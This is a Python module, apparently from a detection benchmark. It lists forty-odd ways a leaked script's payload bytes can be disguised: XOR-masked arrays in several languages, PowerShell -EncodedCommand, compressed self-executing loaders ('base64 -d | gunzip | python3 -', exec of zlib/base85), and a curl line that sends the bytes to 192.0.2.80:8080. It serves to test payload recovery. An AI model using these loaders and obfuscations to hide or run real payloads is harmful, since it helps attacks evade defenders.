"""Twenty forms in which leakers show a payload, written down before the reader was tuned.

FROZEN is what `bench.payload` measures; EXTRA is for tuning and is never in a figure. Each form
takes one leak, the script as it was received and the bytes that it sends, and gives the file that
is found. Where a tool makes such a file it is the tool that runs (gcc, xxd, hexdump, od).

>>> leak = Leak(b"FILLER = b'AAAA'", bytes(range(8)), random.Random(1))
>>> FROZEN["go_slice"](leak)[:46]
b'package main\\n\\nvar packet = []byte{\\n\\t0x00, 0x01'
"""

import base64
import gzip
import html
import lzma
import random
import struct
import subprocess
import tempfile
import textwrap
import zlib
from collections.abc import Callable, Iterable
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import quote_from_bytes


@dataclass(frozen=True)
class Leak:
    """What the leaker has: the script, the bytes it sends, and a coin of his own."""

    source: bytes
    payload: bytes
    rng: random.Random


def rows(data: bytes, size: int) -> list[bytes]:
    """The bytes in rows of one size, the last may be shorter."""
    return [data[at : at + size] for at in range(0, len(data), size)]


def listed(values: Iterable[str], size: int, indent: str = "    ") -> str:
    """Values with commas, so many a line."""
    texts = list(values)
    lines = [", ".join(texts[at : at + size]) for at in range(0, len(texts), size)]
    return ",\n".join(indent + line for line in lines)


def c_hex_array(leak: Leak) -> bytes:
    """Rewritten in C, the packet as an array of hex bytes."""
    body = listed((f"0x{byte:02x}" for byte in leak.payload), 12)
    return (
        "#include <stdio.h>\n\nstatic const unsigned char packet[] = {\n"
        f"{body}\n}};\n\nint main(void) {{\n    fwrite(packet, 1, sizeof packet, stdout);\n"
        "    return 0;\n}\n"
    ).encode()


def c_escaped_string(leak: Leak) -> bytes:
    """Rewritten in C, the packet as string literals side by side, as msfvenom prints them."""
    lines = "\n".join(
        '"' + "".join(f"\\x{byte:02x}" for byte in row) + '"' for row in rows(leak.payload, 14)
    )
    return f"unsigned char buf[] = \n{lines};\n\nint main() {{ return buf[0]; }}\n".encode()


def rust_bytes(leak: Leak) -> bytes:
    """Rewritten in Rust, a byte string over lines, plain where a byte is printable."""
    lines = "\\\n        ".join("".join(map(_rust, row)) for row in rows(leak.payload, 16))
    return (
        f'const PACKET: &[u8] = b"{lines}";\n\nfn main() {{\n'
        '    println!("{} bytes", PACKET.len());\n}\n'
    ).encode()


def _rust(byte: int) -> str:
    plain = 0x20 < byte < 0x7F and chr(byte) not in '"\\'
    return chr(byte) if plain else f"\\x{byte:02x}"


def go_slice(leak: Leak) -> bytes:
    """Rewritten in Go, a slice of bytes."""
    body = ",\n".join(
        "\t" + ", ".join(f"0x{byte:02x}" for byte in row) for row in rows(leak.payload, 8)
    )
    return f"package main\n\nvar packet = []byte{{\n{body},\n}}\n\nfunc main() {{}}\n".encode()


def java_signed(leak: Leak) -> bytes:
    """Rewritten in Java, signed bytes, the packet under a simple XOR so that some are negative."""
    masked = bytes(byte ^ 0xA7 for byte in leak.payload)
    body = listed((str(byte - 256 if byte > 127 else byte) for byte in masked), 10, "        ")
    return (
        "public class Probe {\n    static byte[] packet = new byte[] {\n"
        f"{body}\n    }};\n    public static void main(String[] a) {{\n"
        "        for (int i = 0; i < packet.length; i++) packet[i] ^= 0xA7;\n    }\n}\n"
    ).encode()


def js_chunks(leak: Leak) -> bytes:
    """Rewritten in JavaScript, cut into pieces of a few bytes in variables of their own."""
    pieces, at = [], 0
    while at < len(leak.payload):
        size = leak.rng.randint(5, 9)
        pieces.append("".join(f"\\x{byte:02x}" for byte in leak.payload[at : at + size]))
        at += size
    lines = "".join(f"const p{number} = '{text}';\n" for number, text in enumerate(pieces))
    names = ", ".join(f"p{number}" for number in range(len(pieces)))
    return f"{lines}const packet = [{names}].join('');\nprocess.stdout.write(packet);\n".encode()


def ps_byte_array(leak: Leak) -> bytes:
    """Rewritten in PowerShell, one byte array."""
    body = ",".join(f"0x{byte:02X}" for byte in leak.payload)
    return f"[Byte[]] $packet = {body}\r\n$packet.Length\r\n".encode()


def ps_encoded_command(leak: Leak) -> bytes:
    """A command line with -EncodedCommand: a script with the packet in base64, in UTF-16."""
    inner = base64.b64encode(leak.payload).decode()
    script = f"$packet = [Convert]::FromBase64String('{inner}')\n$packet.Length\n"
    packed = base64.b64encode(script.encode("utf-16-le")).decode()
    return f"powershell.exe -NoProfile -EncodedCommand {packed}\r\n".encode()


def py_rewritten(leak: Leak) -> bytes:
    """A new Python script that holds the packet in hex, line by line."""
    lines = "\n".join(f'buf += bytes.fromhex("{row.hex()}")' for row in rows(leak.payload, 18))
    return f'buf = b""\n{lines}\n\nprint(len(buf))\n'.encode()


def xxd_dump(leak: Leak) -> bytes:
    """What xxd prints of the packet."""
    return _tool(["xxd"], leak.payload)


def hexdump_page(leak: Leak) -> bytes:
    """A forum page that quotes what hexdump -C printed."""
    dump = _tool(["hexdump", "-C"], leak.payload).decode()
    lines = html.escape(dump).replace("\n", "<br />\n")
    return (
        "<html><body><div class='post'><p>anybody knows what this is?</p>\n<blockquote><code>"
        f"{lines}</code></blockquote><p>port 8080 &amp; others</p></div></body></html>\n"
    ).encode()


def base64_cut(leak: Leak) -> bytes:
    """A paste of base64 whose first characters were not copied, lines of 76."""
    text = base64.b64encode(leak.payload).decode()[leak.rng.randint(1, 3) :]
    return ("request body (partial):\n" + "\n".join(textwrap.wrap(text, 76)) + "\n").encode()


def gzip_base64(leak: Leak) -> bytes:
    """A loader in shell: the whole script, gzip, base64."""
    packed = base64.b64encode(gzip.compress(leak.source, mtime=0)).decode()
    return f'#!/bin/sh\necho {packed} | base64 -d | gunzip | python3 - "$@"\n'.encode()


def zlib_base85(leak: Leak) -> bytes:
    """A loader in Python: the whole script, zlib, base85."""
    packed = base64.b85encode(zlib.compress(leak.source, 9))
    return b"import base64, zlib\nexec(zlib.decompress(base64.b85decode(%r)))\n" % packed


def xor_one(leak: Leak) -> bytes:
    """Rewritten in C, the packet under one byte of XOR."""
    key = leak.rng.randint(1, 255)
    masked = Leak(leak.source, bytes(byte ^ key for byte in leak.payload), leak.rng)
    return c_hex_array(masked)


def xor_four(leak: Leak) -> bytes:
    """Rewritten in C, the packet under a repeating key of four bytes."""
    key = bytes(leak.rng.randint(1, 255) for _ in range(4))
    masked = bytes(byte ^ key[at % 4] for at, byte in enumerate(leak.payload))
    return c_hex_array(Leak(leak.source, masked, leak.rng))


def reversed_hex(leak: Leak) -> bytes:
    """A script that holds the packet backwards, in hex."""
    return f'data = bytes.fromhex("{leak.payload[::-1].hex()}")[::-1]\n'.encode()


def utf16_source(leak: Leak) -> bytes:
    """The script as an editor on Windows saves it: UTF-16 with a mark, CR LF."""
    return leak.source.decode().replace("\n", "\r\n").encode("utf-16")


def pcap_segments(leak: Leak) -> bytes:
    """A capture, Ethernet, IPv4, TCP: the packet in two segments, the later one first."""
    cut = len(leak.payload) // 2
    port = leak.rng.randint(32768, 60999)
    first, second = leak.payload[:cut], leak.payload[cut:]
    frames = [
        _frame(port, 1000, 0x02, b""),
        _frame(port, 1001 + cut, 0x18, second),
        _frame(port, 1001, 0x10, first),
        _frame(port, 1001 + len(leak.payload), 0x11, b""),
    ]
    out = struct.pack("<IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, 65535, 1)
    for number, frame in enumerate(frames):
        out += struct.pack("<IIII", 1_790_000_000, number * 700, len(frame), len(frame)) + frame
    return out


def _frame(port: int, seq: int, flags: int, data: bytes) -> bytes:
    tcp = struct.pack(">HHIIBBHHH", port, 8080, seq, 1, 0x50, flags, 64240, 0, 0) + data
    addresses = bytes((192, 0, 2, 10)) + bytes((192, 0, 2, 80))
    ip = struct.pack(">BBHHHBBH", 0x45, 0, 20 + len(tcp), 7, 0x4000, 64, 6, 0) + addresses
    return b"\2\0\0\0\0\1\2\0\0\0\0\2\x08\0" + ip + tcp


def elf_stripped(leak: Leak) -> bytes:
    """Rewritten in C, compiled with gcc -O2 and stripped."""
    with tempfile.TemporaryDirectory() as folder:
        source, program = Path(folder) / "probe.c", Path(folder) / "probe"
        source.write_bytes(c_escaped_string(leak))
        subprocess.run(["gcc", "-O2", "-s", "-w", "-o", program, source], check=True)
        return program.read_bytes()


def _tool(command: list[str], given: bytes) -> bytes:
    return subprocess.run(command, input=given, capture_output=True, check=True).stdout


Form = Callable[[Leak], bytes]
FROZEN: dict[str, Form] = {
    form.__name__: form
    for form in (
        *(c_hex_array, c_escaped_string, rust_bytes, go_slice, java_signed, js_chunks),
        *(ps_byte_array, ps_encoded_command, py_rewritten, xxd_dump, hexdump_page, base64_cut),
        *(gzip_base64, zlib_base85, xor_one, xor_four, reversed_hex, utf16_source),
        *(pcap_segments, elf_stripped),
    )
}


def octal_dump(leak: Leak) -> bytes:
    """What od prints by itself: words of 16 bits in octal."""
    return _tool(["od"], leak.payload)


def octal_bytes(leak: Leak) -> bytes:
    """What od -b prints."""
    return _tool(["od", "-b"], leak.payload)


def character_dump(leak: Leak) -> bytes:
    """What od -c prints."""
    return _tool(["od", "-c"], leak.payload)


def word_dump(leak: Leak) -> bytes:
    """What hexdump prints by itself: words of 16 bits in the order of the machine."""
    return _tool(["hexdump"], leak.payload)


def mail_quoted_printable(leak: Leak) -> bytes:
    """A mail body in quoted-printable, quoted once more in the answer."""
    text = leak.payload.replace(b"\r\n", b"\n").replace(b"=", b"=3D")
    soft = b"=\n".join(rows(text, 60))
    return b"\n".join(b"> " + line for line in soft.split(b"\n")) + b"\n"


def intel_hex(leak: Leak) -> bytes:
    """Records of Intel HEX, 16 bytes each."""
    lines = []
    for number, row in enumerate(rows(leak.payload, 16)):
        record = bytes((len(row),)) + struct.pack(">HB", 16 * number, 0) + row
        lines.append(f":{record.hex().upper()}{-sum(record) & 0xFF:02X}\n")
    return ("".join(lines) + ":00000001FF\n").encode()


def s_records(leak: Leak) -> bytes:
    """Records of Motorola, 8 bytes each."""
    lines = []
    for number, row in enumerate(rows(leak.payload, 8)):
        record = bytes((len(row) + 3,)) + struct.pack(">H", 8 * number) + row
        lines.append(f"S1{record.hex().upper()}{~sum(record) & 0xFF:02X}\n")
    return ("".join(lines) + "S9030000FC\n").encode()


def url_percent(leak: Leak) -> bytes:
    """One line of curl with the packet in percent signs."""
    text = quote_from_bytes(leak.payload, safe="")
    return f"curl 'http://192.0.2.80:8080/?q={text}'\n".encode()


def url_percent_all(leak: Leak) -> bytes:
    """Every byte in percent signs."""
    return "".join(f"%{byte:02X}" for byte in leak.payload).encode()


def html_entities(leak: Leak) -> bytes:
    """A page in which every byte is a numbered entity."""
    return ("<p>" + "".join(f"&#{byte};" for byte in leak.payload) + "</p>\n").encode()


def json_escapes(leak: Leak) -> bytes:
    r"""A JSON document with every byte as \u00XX."""
    text = "".join(f"\\u{byte:04x}" for byte in leak.payload)
    return f'{{"packet": "{text}"}}\n'.encode()


def char_calls(leak: Leak) -> bytes:
    """VBScript: Chr() calls joined with &, over lines."""
    lines = [" & ".join(f"Chr({byte})" for byte in row) for row in rows(leak.payload, 10)]
    return ("packet = " + " & _\r\n".join(lines) + "\r\n").encode()


def ps_chars(leak: Leak) -> bytes:
    """PowerShell: [char] casts with plus signs."""
    return ("$p = " + "+".join(f"[char]{byte}" for byte in leak.payload) + "\r\n").encode()


def gdb_bytes(leak: Leak) -> bytes:
    """What x/8xb prints in gdb."""
    lines = [
        f"0x7ffe{8 * number:08x}:\t" + "\t".join(f"0x{byte:02x}" for byte in row)
        for number, row in enumerate(rows(leak.payload, 8))
    ]
    return ("\n".join(lines) + "\n").encode()


def packed_words(leak: Leak) -> bytes:
    """Python: one struct.pack for each eight bytes."""
    padded = leak.payload + bytes(-len(leak.payload) % 8)
    lines = [
        f'p += struct.pack("<Q", 0x{int.from_bytes(row, "little"):016x})' for row in rows(padded, 8)
    ]
    return ("p = b''\n" + "\n".join(lines) + "\n").encode()


def unescape_words(leak: Leak) -> bytes:
    """JavaScript: unescape with two bytes a sign, the lower one first."""
    padded = leak.payload + bytes(len(leak.payload) % 2)
    text = "".join(f"%u{row[1]:02x}{row[0]:02x}" for row in rows(padded, 2))
    return f'var p = unescape("{text}");\n'.encode()


def byte_lines(leak: Leak) -> bytes:
    """One assignment a byte."""
    return "".join(f"buf[{at}] = 0x{byte:02x};\n" for at, byte in enumerate(leak.payload)).encode()


def hex_chunks(leak: Leak) -> bytes:
    """JavaScript: hex in short pieces in an array."""
    texts = ", ".join(f'"{row.hex()}"' for row in rows(leak.payload, 5))
    return f"const packet = Buffer.from([{texts}].join(''), 'hex');\n".encode()


def xz_base64(leak: Leak) -> bytes:
    """The packet, xz, base64."""
    return b"data = '" + base64.b64encode(lzma.compress(leak.payload)) + b"'\n"


def zlib_raw_inside(leak: Leak) -> bytes:
    """A program that holds the script in zlib somewhere in its data."""
    noise = leak.rng.randbytes(3000)
    return b"\x7fELF" + noise + zlib.compress(leak.source) + leak.rng.randbytes(500)


def xor_six(leak: Leak) -> bytes:
    """A repeating key of six bytes, the result in base64."""
    key = leak.rng.randbytes(6)
    masked = bytes(byte ^ key[at % 6] for at, byte in enumerate(leak.payload))
    return b"blob = '" + base64.b64encode(masked) + b"'\n"


def reversed_base64(leak: Leak) -> bytes:
    """Base64 written backwards."""
    return b"data = '" + base64.b64encode(leak.payload)[::-1] + b"'[::-1]\n"


def utf16_array(leak: Leak) -> bytes:
    """The script with every byte as a wide character inside a program."""
    wide = leak.payload.decode("latin-1").encode("utf-16-le")
    return b"MZ" + leak.rng.randbytes(2001) + wide + leak.rng.randbytes(700)


EXTRA: dict[str, Form] = {
    form.__name__: form
    for form in (
        *(octal_dump, octal_bytes, character_dump, word_dump, mail_quoted_printable, intel_hex),
        *(s_records, url_percent, url_percent_all, html_entities, json_escapes, char_calls),
        *(ps_chars, gdb_bytes, packed_words, unescape_words, byte_lines, hex_chunks, xz_base64),
        *(zlib_raw_inside, xor_six, reversed_base64, utf16_array),
    )
}
